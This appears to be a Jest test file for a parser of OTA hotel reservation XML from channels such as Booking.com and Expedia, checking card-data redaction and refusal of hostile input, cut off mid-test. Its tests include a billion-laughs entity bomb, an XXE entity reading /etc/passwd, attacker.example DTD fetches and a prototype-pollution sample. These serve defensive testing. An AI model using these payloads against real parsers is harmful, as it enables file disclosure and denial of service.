/**
 * Reading what channels send: realistic samples parse leniently, card data never survives, hostile
 * input is refused quickly with an error that says why, and unusable content is named by element.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { DEFAULT_MAX_BYTES, OtaMessageError, parseAckResponse, parseOtaMessage, parseReservations } from '../../lib/ota';
import { parseHotelAvailNotif, parseHotelRateAmountNotif, unwrapSoap } from '../peers/ota/messages';
import { parseAmount } from '../../lib/ota/amounts';
import { expectOtaRefused } from '../support/otaRefusal';

const fixture = (name: string): Buffer => readFileSync(path.join(__dirname, '../fixtures/ota', name));
const OTA = 'xmlns="http://www.opentravel.org/OTA/2003/05"';

/** The reservations of a message that holds no unreadable one. */
function reservationsOf(xml: string | Buffer) {
	const batch = parseReservations(xml);
	expect(batch.failures).toEqual([]);
	return batch.reservations;
}

/** A minimal OTA_HotelResNotifRQ around the given HotelReservation elements. */
const resNotif = (...reservations: string[]) =>
	`<OTA_HotelResNotifRQ ${OTA} Version="1.0"><HotelReservations>${reservations.join('')}</HotelReservations></OTA_HotelResNotifRQ>`;

const stay = (timeSpan: string) =>
	`<RoomStays><RoomStay><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes><GuestCounts><GuestCount AgeQualifyingCode="10" Count="2"/></GuestCounts>${timeSpan}</RoomStay></RoomStays>`;

describe('channel samples', () => {
	it('reads a Booking.com push without BasicPropertyInfo, amounts in implied decimals', () => {
		const [first, second] = reservationsOf(fixture('bookingcom-hotelresnotif-rq.xml'));
		expect(first).toEqual({
			channelReservationId: '4705913842',
			version: '2026-05-02T09:13:58+00:00',
			action: 'book',
			arrival: '2026-07-10',
			departure: '2026-07-12',
			roomStays: [
				{
					index: '460',
					status: 'active',
					roomType: 'DBL-SEA',
					ratePlan: 'BAR-FLEX',
					arrival: '2026-07-10',
					departure: '2026-07-12',
					units: 1,
					adults: 2,
					children: 1,
					childAges: [6],
					nightly: [
						{ date: '2026-07-10', amount: 18500 },
						{ date: '2026-07-11', amount: 18500 },
					],
					amount: 37000,
					currency: 'EUR',
				},
			],
			amount: 37000,
			currency: 'EUR',
			guest: { name: "Søren O'Brien-Kierkegaard", email: 'soren.obrien@guest.booking.example', phone: '+45 31 12 34 56' },
			card: { brand: 'VI', last4: '1111' },
			createdAt: '2026-05-02T09:13:58+00:00',
			comments: ['Arrival around 22:00 <late check-in>'],
			specialRequests: ['Cot please & a quiet room. Charge my other card xxxxxxxxxxxx4444 instead.'],
		});
		expect(first.hotelCode).toBeUndefined();
		// Two room stays (one room each, different departures), ResStatus "Commit" is a booking.
		expect(second).toMatchObject({ action: 'book', arrival: '2026-08-01', departure: '2026-08-03', amount: 29700 });
		expect(second.roomStays.map(({ index, roomType, ratePlan, units, adults, departure, amount }) => ({ index, roomType, ratePlan, units, adults, departure, amount }))).toEqual([
			{ index: '461', roomType: 'SGL', ratePlan: 'NREF', units: 1, adults: 1, departure: '2026-08-02', amount: 9900 },
			{ index: '462', roomType: 'SGL', ratePlan: 'NREF', units: 1, adults: 1, departure: '2026-08-03', amount: 19800 },
		]);
	});

	it('reads a SiteMinder ResRetrieveRS in SOAP with Book, Modify and Cancel', () => {
		const reservations = reservationsOf(fixture('siteminder-resretrieve-rs.xml'));
		expect(reservations.map(({ channelReservationId, action, version }) => [channelReservationId, action, version])).toEqual([
			['SM-88231', 'book', '2026-05-03T07:58:12+10:00'],
			['SM-87002', 'modify', '2026-05-03T07:59:30+10:00'],
			['SM-85110', 'cancel', '2026-05-03T08:00:01+10:00'],
		]);
		expect(reservations[0]).toMatchObject({ hotelCode: 'SYD-HARBOUR', amount: 69000, currency: 'AUD', guest: { name: 'Mei Chen' }, card: { brand: 'MC', last4: '4444' } });
		// Duration P2N instead of End; AmountAfterTax preferred over AmountBeforeTax.
		expect(reservations[1]).toMatchObject({ arrival: '2026-10-01', departure: '2026-10-03', amount: 88000 });
		expect(reservations[1].roomStays).toMatchObject([{ units: 2, adults: 4, arrival: '2026-10-01', departure: '2026-10-03' }]);
		expect(reservations[2].roomStays).toMatchObject([{ roomType: 'KING' }]);
		expect(reservations[2].guest).toEqual({ name: 'Okafor' });
	});

	it('reads an Expedia modification (SOAP, ota: prefixes, date-times in TimeSpan)', () => {
		expect(reservationsOf(fixture('expedia-hotelresmodifynotif-rq.xml'))).toEqual([
			{
				channelReservationId: '1177045512',
				version: '2026-05-04T15:19:55-07:00',
				action: 'modify',
				hotelCode: '4412003',
				arrival: '2026-12-20',
				departure: '2026-12-27',
				roomStays: [
					expect.objectContaining({
						index: '1',
						status: 'active',
						roomType: '200145678',
						ratePlan: '205678901A',
						arrival: '2026-12-20',
						departure: '2026-12-27',
						units: 1,
						adults: 2,
						children: 2,
					}),
				],
				amount: 156800,
				currency: 'USD',
				// AmountAfterTax − AmountBeforeTax, where no Taxes element says it.
				taxes: 16800,
				guest: { name: 'José Luis García', email: 'jgarcia@m.expediapartnercentral.example', phone: '+1 415 555 0101' },
				card: { brand: 'AX', last4: '0005' },
				createdAt: '2026-03-30T10:11:12-07:00',
				comments: ['Non-smoking, 2 queen beds requested.'],
				specialRequests: [],
			},
		]);
		const message = parseOtaMessage(fixture('expedia-hotelresmodifynotif-rq.xml'));
		expect(message).toMatchObject({ root: 'OTA_HotelResModifyNotifRQ', echoToken: 'EXP-7f1e0c8a', soap: { usernameToken: { username: 'expedia-push', password: 's3cret&pw' } } });
	});

	it('reads an Expedia OTA_CancelRQ', () => {
		const [cancel] = reservationsOf(fixture('expedia-cancel-rq.xml'));
		expect(cancel).toMatchObject({
			channelReservationId: '1177045512',
			action: 'cancel',
			hotelCode: '4412003',
			arrival: '2026-12-20',
			departure: '2026-12-27',
			roomStays: [],
			guest: { name: 'José García' },
			comments: ['Guest changed travel plans'],
		});
		expect(cancel.version).toMatch(/^sha256:[0-9a-f]{16}$/);
	});
});

describe('card data never survives parsing', () => {
	const SECRETS = [
		'4111111111111111',
		'5555555555554444',
		'5555 5555 5555 4444',
		'378282246310005',
		'CARDHOLDER',
		'HOLDER',
		'QUJDREVGR0hJSktMTU5PUA==',
		'CardNumber',
		'SeriesCode',
		'ExpireDate',
		'CardHolderName',
		'EncryptedValue',
		'PlainText',
		'MagneticStripe',
		'1229',
	];
	/** CVVs are short and may look like anything, so look for them as whole values. */
	const CVVS = ['123', '1234', '999'];

	function leafValues(value: unknown): string[] {
		if (typeof value === 'string' || typeof value === 'number') return [String(value)];
		if (Array.isArray(value)) return value.flatMap(leafValues);
		if (value && typeof value === 'object') return Object.values(value).flatMap(leafValues);
		return [];
	}

	function expectNoCardData(result: unknown): void {
		const json = JSON.stringify(result);
		for (const secret of SECRETS) expect(json).not.toContain(secret);
		for (const value of leafValues(result)) expect(CVVS).not.toContain(value.trim());
	}

	const everyForm = resNotif(`
		<HotelReservation ResStatus="Book">
			<UniqueID Type="14" ID="R-1"/>
			${stay('<TimeSpan Start="2026-06-01" End="2026-06-02"/>')}
			<ResGlobalInfo>
				<Guarantee><GuaranteesAccepted>
					<GuaranteeAccepted>
						<PaymentCard CardCode="VI" CardNumber="4111 1111 1111 1111" SeriesCode="999" ExpireDate="1229" CardHolderName="ATTR CARDHOLDER">
							<CardType>Visa</CardType>
							<CardHolderName>ELEMENT CARDHOLDER</CardHolderName>
							<CardHolderNameDetails><GivenName>DETAIL</GivenName><Surname>CARDHOLDER</Surname></CardHolderNameDetails>
							<CardNumber EncryptedValue="QUJDREVGR0hJSktMTU5PUA==" Mask="411111xxxxxx1111"><PlainText>4111111111111111</PlainText></CardNumber>
							<SeriesCode EncryptedValue="QUJDREVGR0hJSktMTU5PUA=="><PlainText>999</PlainText></SeriesCode>
							<MagneticStripe><PlainText>%B4111111111111111^CARDHOLDER/X^1229</PlainText></MagneticStripe>
							<ThreeDomainSecurity><Gateway><AuthenticationVerificationValue><PlainText>1234</PlainText></AuthenticationVerificationValue></Gateway></ThreeDomainSecurity>
						</PaymentCard>
					</GuaranteeAccepted>
				</GuaranteesAccepted></Guarantee>
				<Profiles><ProfileInfo><Profile><Customer>
					<PersonName><Surname>Guest</Surname></PersonName>
					<PaymentForm><PaymentCard CardCode="MC"><CardNumber><PlainText>5555555555554444</PlainText></CardNumber></PaymentCard></PaymentForm>
					<PaymentForm><BankAcct><BankAcctNumber><PlainText>DE89370400440532013000</PlainText></BankAcctNumber></BankAcct></PaymentForm>
				</Customer></Profile></ProfileInfo></Profiles>
				<BasicPropertyInfo HotelCode="H1"/>
			</ResGlobalInfo>
			<TPA_Extensions><VirtualCard Number="x"><CardNumber>4111111111111111</CardNumber><SeriesCode>999</SeriesCode></VirtualCard></TPA_Extensions>
		</HotelReservation>`);

	it('keeps only brand and last four digits from every PaymentCard form', () => {
		const [reservation] = reservationsOf(everyForm);
		expect(reservation.card).toEqual({ brand: 'VI', last4: '1111' });
		expectNoCardData(reservation);
		expect(JSON.stringify(reservation)).not.toContain('DE89370400440532013000');
	});

	it('redacts the generic parse too, so no caller can reach a card number', () => {
		const message = parseOtaMessage(everyForm);
		expectNoCardData(message);
		expect(JSON.stringify(message)).not.toContain('DE89370400440532013000');
		expect(JSON.stringify(message)).toContain('"@_Last4":"1111"');
	});

	it.each(['bookingcom-hotelresnotif-rq.xml', 'siteminder-resretrieve-rs.xml', 'expedia-hotelresmodifynotif-rq.xml'])('in %s', (name) => {
		const xml = fixture(name);
		// The samples do hold card data…
		expect(xml.toString()).toMatch(/CardNumber|SeriesCode/);
		// …and none of it comes out of any parser.
		expectNoCardData(parseReservations(xml));
		expectNoCardData(parseOtaMessage(xml));
		if (xml.toString().includes('Envelope')) expectNoCardData(unwrapSoap(xml));
	});
});

describe('hostile input is refused before parsing', () => {
	const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<OTA_HotelResNotifRQ ${OTA} Version="1.0"><HotelReservations><HotelReservation><UniqueID Type="14" ID="&lol9;"/></HotelReservation></HotelReservations></OTA_HotelResNotifRQ>`;

	it('refuses billion laughs, fast', () => {
		const started = performance.now();
		expectOtaRefused(() => parseReservations(billionLaughs), 'forbidden_markup', /DOCTYPE and ENTITY declarations are not accepted/);
		expect(performance.now() - started).toBeLessThan(1_000); // expanded, it would be 10^9 copies
	});

	it.each([
		['an external entity (XXE)', `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><OTA_ReadRQ ${OTA} Version="1.0">&xxe;</OTA_ReadRQ>`],
		['a parameter entity', `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><OTA_ReadRQ ${OTA} Version="1.0"/>`],
		['a lower-case doctype', `<!doctype r SYSTEM "http://attacker.example/x.dtd"><OTA_ReadRQ ${OTA} Version="1.0"/>`],
		['a DOCTYPE inside a SOAP envelope', `<!DOCTYPE x [<!ENTITY a "b">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>`],
	])('refuses %s', (_name, xml) => {
		expectOtaRefused(() => parseOtaMessage(xml), 'forbidden_markup', /DOCTYPE and ENTITY/);
		expectOtaRefused(() => parseOtaMessage(Buffer.from(xml)), 'forbidden_markup', /DOCTYPE and ENTITY/);
	});

	it('refuses a 3 MB message by its raw size, whatever its form', () => {
		const big = `<OTA_ReadRQ ${OTA} Version="1.0"><!--${'x'.repeat(3 * 1024 * 1024)}--></OTA_ReadRQ>`;
		expect(DEFAULT_MAX_BYTES).toBe(2 * 1024 * 1024);
		expectOtaRefused(() => parseOtaMessage(big), 'too_large', /is 3145\d{3} bytes, more than the limit of 2097152 bytes/);
		expectOtaRefused(() => parseReservations(Buffer.from(big)), 'too_large', /more than the limit/);
		// Bytes, not characters: 1.1 million "é" are 2.2 MB of UTF-8.
		expectOtaRefused(() => parseOtaMessage(`<OTA_ReadRQ ${OTA} Version="1.0">${'é'.repeat(1_100_000)}</OTA_ReadRQ>`), 'too_large', /more than the limit/);
		expectOtaRefused(() => parseOtaMessage(`<OTA_ReadRQ ${OTA} Version="1.0"/>`, { maxBytes: 20 }), 'too_large', /limit of 20 bytes/);
		expect(parseOtaMessage(big, { maxBytes: 4 * 1024 * 1024 }).root).toBe('OTA_ReadRQ');
	});

	it.each([
		['a wrong closing tag', `<OTA_ReadRQ ${OTA} Version="1.0">\n<ReadRequests>\n</ReadRequest>\n</OTA_ReadRQ>`, /malformed XML at line 3, column 1: Expected closing tag 'ReadRequests'/],
		['an unclosed root', `<OTA_ReadRQ ${OTA} Version="1.0">`, /malformed XML.*Unclosed tag 'OTA_ReadRQ'/],
		['a repeated attribute', `<OTA_ReadRQ ${OTA} Version="1.0" Version="2.0"/>`, /malformed XML.*Attribute 'Version' is repeated/],
		['two roots', `<OTA_ReadRQ ${OTA} Version="1.0"></OTA_ReadRQ><OTA_ReadRQ ${OTA} Version="1.0"/>`, /malformed XML.*root/],
		['two self-closing roots', `<OTA_ReadRQ ${OTA} Version="1.0"/><OTA_ReadRQ ${OTA} Version="1.0"/>`, /malformed XML: the message must have exactly one root element/],
		['two different roots', `<OTA_ReadRQ ${OTA} Version="1.0"/><Other/>`, /malformed XML.*root/],
		['text that is not XML', 'HTTP 502 Bad Gateway', /malformed XML at line 1, column 1/],
		['an empty body', '', /malformed XML/],
	])('names the problem in %s', (_name, xml, message) => {
		expectOtaRefused(() => parseOtaMessage(xml), 'malformed', message);
	});

	it('refuses encodings it cannot read safely', () => {
		const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<OTA_ReadRQ ${OTA} Version="1.0"/>`, 'utf16le')]);
		expectOtaRefused(() => parseOtaMessage(utf16), 'malformed', /UTF-16 messages are not accepted/);
		expectOtaRefused(() => parseOtaMessage(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])), 'malformed', /not valid UTF-8/);
		const latin1 = Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><OTA_ReadRQ ${OTA} Version="1.0" EchoToken="Caf\u00e9"/>`, 'latin1');
		expect(parseOtaMessage(latin1).echoToken).toBe('Café');
	});

	it('does not let element names pollute prototypes', () => {
		expectOtaRefused(() => parseOtaMessage(`<OTA_ReadRQ ${OTA} Version="1.0"><__proto__><polluted>yes</polluted></__proto__></OTA_ReadRQ>`), 'malformed', /unreadable XML/);
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	});

	it('refuses absurd nesting', () => {
		expectOtaRefused(() => parseOtaMessage(`<a>${'<b>'.repeat(500)}${'</b>'.repeat(500)}</a>`), 'malformed', /nested/i);
	});

	it('says which root it expected', () => {
		expectOtaRefused(() => parseReservations(`<OTA_HotelAvailNotifRQ ${OTA} Version="1.0"/>`), 'unexpected_root', /expected OTA_HotelResNotifRQ or .* got OTA_HotelAvailNotifRQ/);
		expectOtaRefused(() => parseHotelAvailNotif(fixture('bookingcom-hotelresnotif-rq.xml')), 'unexpected_root', /expected OTA_HotelAvailNotifRQ, got OTA_HotelResNotifRQ/);
		expectOtaRefused(() => parseAckResponse(`<OTA_ReadRQ ${OTA} Version="1.0"/>`), 'unexpected_root', /expected an OTA response, got OTA_ReadRQ/);
	});
});

describe('lenient, but precise about what it cannot use', () => {
	it('parses a reservation with nothing but an id, dates and a room', () => {
		const [reservation] = reservationsOf(resNotif(`<HotelReservation><UniqueID Type="14" ID="R-1"/>${stay('<TimeSpan Start="2026-06-01" End="2026-06-03"/>')}</HotelReservation>`));
		expect(reservation).toEqual({
			channelReservationId: 'R-1',
			version: expect.stringMatching(/^sha256:/),
			action: 'book',
			arrival: '2026-06-01',
			departure: '2026-06-03',
			roomStays: [{ index: '1', status: 'active', roomType: 'DBL', arrival: '2026-06-01', departure: '2026-06-03', units: 1, adults: 2, children: 0, childAges: [], nightly: [] }],
			guest: { name: '' },
			comments: [],
			specialRequests: [],
		});
	});

	it('names the reservation and the element at fault, and still reads the others', () => {
		const ok = `<HotelReservation><UniqueID Type="14" ID="R-1"/>${stay('<TimeSpan Start="2026-06-01" End="2026-06-03"/>')}</HotelReservation>`;
		const cases: Array<[string, string]> = [
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan End="2026-06-03"/>')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]: no stay dates'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]: no stay dates'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan Start="2026-06-03"/>')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]/TimeSpan: has a Start but neither End nor Duration'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan Start="2026-06-31" End="2026-07-02"/>')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]/TimeSpan: Start "2026-06-31" is not a date'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan Start="2026-06-03" End="2026-06-03"/>')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]/TimeSpan: End 2026-06-03 is not after Start 2026-06-03'],
			[`<HotelReservation>${stay('<TimeSpan Start="2026-06-01" End="2026-06-03"/>')}</HotelReservation>`, 'HotelReservation[2]: missing UniqueID ID'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/></HotelReservation>`, 'HotelReservation[2]: no RoomStay'],
			[`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan Start="2026-06-01" End="2029-06-03"/>')}</HotelReservation>`, 'HotelReservation[2]/RoomStays/RoomStay[1]/TimeSpan: a stay from 2026-06-01 to 2029-06-03 is longer than 731 nights'],
			[
				`<HotelReservation><UniqueID Type="14" ID="R-2"/>${stay('<TimeSpan Start="2026-06-01" End="2026-06-03"/>')}<ResGlobalInfo><Total AmountAfterTax="12,50" CurrencyCode="EUR"/></ResGlobalInfo></HotelReservation>`,
				'HotelReservation[2]/ResGlobalInfo/Total: amount "12,50" is not a number',
			],
		];
		for (const [bad, message] of cases) {
			const batch = parseReservations(resNotif(ok, bad, ok.replace('R-1', 'R-3')));
			expect(batch.reservations.map((r) => r.channelReservationId)).toEqual(['R-1', 'R-3']);
			expect(batch.failures).toHaveLength(1);
			const [failure] = batch.failures;
			expect(failure.reason.startsWith(message)).toBe(true);
			expect(failure).toMatchObject({ position: 2, action: 'book' });
			if (!message.includes('missing UniqueID')) expect(failure.channelReservationId).toBe('R-2');
			// The reservation as it came, for the sync log.
			expect(failure.excerpt).toMatch(/^<HotelReservation>/);
		}
	});

	it('takes the stay from the nightly rates when there is no TimeSpan (Booking.com), ExpireDate being the departure morning', () => {
		const rates = (inner: string) =>
			resNotif(
				`<HotelReservation><UniqueID Type="14" ID="R-1"/><RoomStays><RoomStay><RoomRates><RoomRate RoomTypeCode="DBL" RatePlanCode="BAR"><Rates>${inner}</Rates></RoomRate></RoomRates></RoomStay></RoomStays></HotelReservation>`,
			);
		const perNight = rates(
			'<Rate EffectiveDate="2026-06-01" ExpireDate="2026-06-02"><Base AmountAfterTax="10000" CurrencyCode="EUR" DecimalPlaces="2"/></Rate><Rate EffectiveDate="2026-06-02" ExpireDate="2026-06-03"><Base AmountAfterTax="12000" CurrencyCode="EUR" DecimalPlaces="2"/></Rate>',
		);
		expect(reservationsOf(perNight)[0].roomStays[0]).toMatchObject({
			arrival: '2026-06-01',
			departure: '2026-06-03',
			nightly: [
				{ date: '2026-06-01', amount: 10000 },
				{ date: '2026-06-02', amount: 12000 },
			],
			amount: 22000,
			currency: 'EUR',
		});
		// One rate over a range: its Base is per night; a Total is shared out over the nights.
		const range = rates('<Rate EffectiveDate="2026-06-01" ExpireDate="2026-06-04"><Base AmountAfterTax="90.00" CurrencyCode="EUR"/></Rate>');
		expect(reservationsOf(range)[0].roomStays[0]).toMatchObject({ arrival: '2026-06-01', departure: '2026-06-04', amount: 27000 });
		const total = rates('<Rate EffectiveDate="2026-06-01" ExpireDate="2026-06-04"><Total AmountAfterTax="100.00" CurrencyCode="EUR"/></Rate>');
		expect(reservationsOf(total)[0].roomStays[0].nightly).toEqual([
			{ date: '2026-06-01', amount: 3334 },
			{ date: '2026-06-02', amount: 3333 },
			{ date: '2026-06-03', amount: 3333 },
		]);
		// Without ExpireDate a rate covers UnitMultiplier nights; an ExpireDate equal to the EffectiveDate is one night.
		const multiplier = rates('<Rate EffectiveDate="2026-06-01" UnitMultiplier="3" RateTimeUnit="Day"><Base AmountAfterTax="50" CurrencyCode="EUR"/></Rate>');
		expect(reservationsOf(multiplier)[0].roomStays[0]).toMatchObject({ arrival: '2026-06-01', departure: '2026-06-04', amount: 15000 });
		const inclusive = rates('<Rate EffectiveDate="2026-06-01" ExpireDate="2026-06-01"><Base AmountAfterTax="50" CurrencyCode="EUR"/></Rate>');
		expect(reservationsOf(inclusive)[0].roomStays[0]).toMatchObject({ arrival: '2026-06-01', departure: '2026-06-02' });
		// ResGlobalInfo's TimeSpan dates rooms that have neither.
		const global = resNotif(
			`<HotelReservation><UniqueID Type="14" ID="R-1"/><RoomStays><RoomStay><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes></RoomStay></RoomStays><ResGlobalInfo><TimeSpan Start="2026-06-05" Duration="P2N"/></ResGlobalInfo></HotelReservation>`,
		);
		expect(reservationsOf(global)[0]).toMatchObject({ arrival: '2026-06-05', departure: '2026-06-07' });
	});

	it('keeps every room of a multi-room reservation, with its own type, guests, guest name and status', () => {
		const xml = resNotif(`<HotelReservation ResStatus="Modify"><UniqueID Type="14" ID="R-1" Instance="2"/><RoomStays>
			<RoomStay IndexNumber="11"><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes><GuestCounts><GuestCount AgeQualifyingCode="10" Count="2"/></GuestCounts><TimeSpan Start="2026-06-01" End="2026-06-03"/><ResGuestRPHs><ResGuestRPH RPH="2"/></ResGuestRPHs></RoomStay>
			<RoomStay IndexNumber="12"><RoomTypes><RoomType RoomTypeCode="FAM"/></RoomTypes><GuestCounts><GuestCount AgeQualifyingCode="10" Count="2"/><GuestCount AgeQualifyingCode="8" Age="4" Count="2"/></GuestCounts><TimeSpan Start="2026-06-01" End="2026-06-04"/></RoomStay>
			<RoomStay IndexNumber="13" RoomStayStatus="Cancelled"><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes></RoomStay>
		</RoomStays><ResGuests>
			<ResGuest ResGuestRPH="1"><Profiles><ProfileInfo><Profile><Customer><PersonName><GivenName>First</GivenName><Surname>Listed</Surname></PersonName></Customer></Profile></ProfileInfo></Profiles></ResGuest>
			<ResGuest ResGuestRPH="2" PrimaryIndicator="true"><Profiles><ProfileInfo><Profile><Customer><PersonName><GivenName>Zoë</GivenName><Surname>Ångström</Surname></PersonName><Email>zoe@example.com</Email></Customer></Profile></ProfileInfo></Profiles></ResGuest>
		</ResGuests><ResGlobalInfo><Guarantee><GuaranteesAccepted><GuaranteeAccepted><PaymentCard CardCode="VI" CardNumber="4111111111111111"><CardHolderName>CARD HOLDER</CardHolderName></PaymentCard></GuaranteeAccepted></GuaranteesAccepted></Guarantee></ResGlobalInfo></HotelReservation>`);
		const [reservation] = reservationsOf(xml);
		expect(reservation.guest).toEqual({ name: 'Zoë Ångström', email: 'zoe@example.com' });
		expect(reservation).toMatchObject({ action: 'modify', version: '2', arrival: '2026-06-01', departure: '2026-06-04' });
		expect(reservation.roomStays.map(({ index, status, roomType, adults, children, childAges, guestName }) => ({ index, status, roomType, adults, children, childAges, guestName }))).toEqual([
			{ index: '11', status: 'active', roomType: 'DBL', adults: 2, children: 0, childAges: [], guestName: 'Zoë Ångström' },
			{ index: '12', status: 'active', roomType: 'FAM', adults: 2, children: 2, childAges: [4, 4], guestName: undefined },
			{ index: '13', status: 'cancelled', roomType: 'DBL', adults: 0, children: 0, childAges: [], guestName: undefined },
		]);
	});

	it('bounds what a hostile reservation can make the parser do, failing that reservation only', () => {
		const manyRates = Array.from({ length: 300 }, () => '<Rate EffectiveDate="2030-01-01" UnitMultiplier="731"><Base AmountAfterTax="1" CurrencyCode="EUR"/></Rate>').join('');
		const hostile = resNotif(
			`<HotelReservation><UniqueID Type="14" ID="R-1"/><RoomStays><RoomStay><RoomRates><RoomRate RoomTypeCode="DBL"><Rates>${manyRates}</Rates></RoomRate></RoomRates></RoomStay></RoomStays></HotelReservation>`,
			`<HotelReservation><UniqueID Type="14" ID="R-2"/><RoomStays>${'<RoomStay><TimeSpan Start="2026-06-01" End="2026-06-02"/></RoomStay>'.repeat(101)}</RoomStays></HotelReservation>`,
			`<HotelReservation><UniqueID Type="14" ID="${'X'.repeat(65)}"/>${stay('<TimeSpan Start="2026-06-01" End="2026-06-02"/>')}</HotelReservation>`,
			`<HotelReservation><UniqueID Type="14" ID="R-4"/><RoomStays><RoomStay><RoomRates><RoomRate RoomTypeCode="DBL"><Rates><Rate EffectiveDate="2026-01-01" ExpireDate="2026-01-02"/><Rate EffectiveDate="2029-01-01" ExpireDate="2029-01-02"/></Rates></RoomRate></RoomRates></RoomStay></RoomStays></HotelReservation>`,
		);
		const batch = parseReservations(hostile);
		expect(batch.reservations).toEqual([]);
		expect(batch.failures.map((f) => [f.channelReservationId, f.reason.replace(/^.*?: /, '')])).toEqual([
			['R-1', 'the nightly rates cover more than 2924 nights'],
			['R-2', '101 rooms in one reservation; at most 100 are read'],
			[undefined, 'the reservation id is longer than 64 characters'],
			['R-4', 'a stay from 2026-01-01 to 2029-01-02 is longer than 731 nights'],
		]);
	});

	it('takes the payment model from what the channel says, not from a guest asking', () => {
		const withRequest = (code: string, words: string) =>
			resNotif(`<HotelReservation><UniqueID Type="14" ID="R-1"/><RoomStays><RoomStay><RoomTypes><RoomType RoomTypeCode="DBL"/></RoomTypes><TimeSpan Start="2026-06-01" End="2026-06-02"/><SpecialRequests><SpecialRequest RequestCode="${code}"><Text>${words}</Text></SpecialRequest></SpecialRequests></RoomStay></RoomStays></HotelReservation>`);
		expect(reservationsOf(withRequest('1.14', 'Can I pay at the hotel? Hotel collect please'))[0].paymentModel).toBeUndefined();
		expect(reservationsOf(withRequest('5', 'Hotel Collect Booking: collect payment from guest'))[0].paymentModel).toBe('hotel_collect');
	});

	it('masks a card number in an attribute it does not know when it keeps a failed reservation for the sync log', () => {
		const xml = resNotif(`<HotelReservation><UniqueID Type="14" ID="R-1"/><TPA_Extensions><Pay Number="4111 1111 1111 1111" Note="x"/></TPA_Extensions></HotelReservation>`);
		const [failure] = parseReservations(xml).failures;
		expect(failure.excerpt).toContain('xxxxxxxxxxxx1111');
		expect(failure.excerpt).not.toMatch(/4111 1111 1111 1111/);
	});

	it('reads the namespace past header elements with non-ASCII names', () => {
		const soap = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header><Prüfung>ok</Prüfung></s:Header><s:Body><OTA_CancelRQ xmlns="http://www.opentravel.org/OTA/2003/05" Version="1.0"><UniqueID Type="14" ID="1"/></OTA_CancelRQ></s:Body></s:Envelope>`;
		expect(reservationsOf(soap)).toHaveLength(1);
	});

	it('refuses an element named like an OTA message in another namespace', () => {
		const foreign = `<OTA_HotelResNotifRQ xmlns="http://example.com/not-ota" Version="1.0"><HotelReservations/></OTA_HotelResNotifRQ>`;
		expectOtaRefused(() => parseReservations(foreign), 'unexpected_root', /OTA_HotelResNotifRQ in the OpenTravel namespace .* got namespace "http:\/\/example.com\/not-ota"/);
		const prefixed = `<x:OTA_HotelResNotifRQ xmlns:x="urn:other" xmlns="http://www.opentravel.org/OTA/2003/05" Version="1.0"/>`;
		expectOtaRefused(() => parseReservations(prefixed), 'unexpected_root', /namespace "urn:other"/);
		const inSoap = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:o="urn:other"><s:Header><o:Security/></s:Header><s:Body><o:OTA_CancelRQ Version="1.0"><o:UniqueID Type="14" ID="1"/></o:OTA_CancelRQ></s:Body></s:Envelope>`;
		expectOtaRefused(() => parseReservations(inSoap), 'unexpected_root', /namespace "urn:other"/);
		// No namespace at all is taken: channels in the field leave it out.
		expect(parseReservations(`<OTA_HotelResNotifRQ Version="1.0"><HotelReservations/></OTA_HotelResNotifRQ>`).reservations).toEqual([]);
		expect(parseReservations(inSoap.replace(/xmlns:o="urn:other"/, 'xmlns:o="http://www.opentravel.org/OTA/2003/05"')).reservations).toHaveLength(1);
	});

	it('accepts a cancellation that names only the reservation', () => {
		const xml = `<OTA_HotelResModifyNotifRQ ${OTA} Version="1.0"><HotelResModifies><HotelResModify ResStatus="Cancelled"><UniqueID Type="14" ID="R-9"/></HotelResModify></HotelResModifies></OTA_HotelResModifyNotifRQ>`;
